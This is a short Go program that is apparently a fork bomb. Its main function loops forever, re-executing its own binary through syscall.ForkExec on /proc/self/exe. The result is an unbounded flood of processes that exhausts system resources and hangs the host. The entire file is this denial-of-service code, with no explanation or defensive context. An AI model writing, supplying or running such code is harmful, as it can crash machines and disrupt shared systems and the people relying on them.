package main

import "syscall"

func main() {
	for {
		syscall.ForkExec("/proc/self/exe", nil, nil)
	}
}
